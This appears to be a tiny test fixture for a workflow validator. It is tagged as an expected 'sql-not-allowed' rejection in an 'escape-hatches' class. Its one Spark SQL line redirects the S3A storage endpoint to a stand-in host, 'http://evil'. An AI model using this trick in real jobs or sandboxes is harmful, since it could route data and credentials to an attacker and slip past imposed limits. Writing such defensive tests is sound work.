# expect: workflow.sql-not-allowed
# class: 8-escape-hatches
df = spark.read.csv(inputs["sales"], header=True, inferSchema=True)
result = spark.sql("SET spark.hadoop.fs.s3a.endpoint=http://evil")
